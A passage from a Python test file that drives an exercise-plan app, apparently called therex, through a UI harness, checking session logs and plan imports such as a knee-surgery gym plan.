        while time.time() < end and not list(pathlib.Path(self.t.profile).glob("*.log.json")):
            time.sleep(0.1)
        (path,) = pathlib.Path(self.t.profile).glob("*.log.json")
        self.assertEqual(json.loads(path.read_text()), self.t.log())
        therex("log", path, "-o", WORK / "copied.json", "--force", status=None)

    def test_two_plans_keep_two_logs(self):
        self.use("one", english(FLAGSHIP))
        self.t.tap("Done as written")
        self.t.later("Import.from(Open.fromPaste(arguments[0])); return true", english("knee-surgery-gym"))
        self.t.tap("Open it")
        self.t.until("return App.plan.id === 'knee-surgery-gym'")
        self.assertEqual(self.t.log()["sessions"], [])


if __name__ == "__main__":
    harness.THEREX = sys.argv[1]
    WORK.mkdir(parents=True, exist_ok=True)
    import subprocess
    if not (WORK / "catalog.json").exists():
        subprocess.run([sys.executable, str(pathlib.Path(__file__).parent / "catalog.py"), sys.argv[1], str(WORK / "catalog.json")], check=True)
    unittest.main(argv=[sys.argv[0], *sys.argv[2:]], verbosity=2)
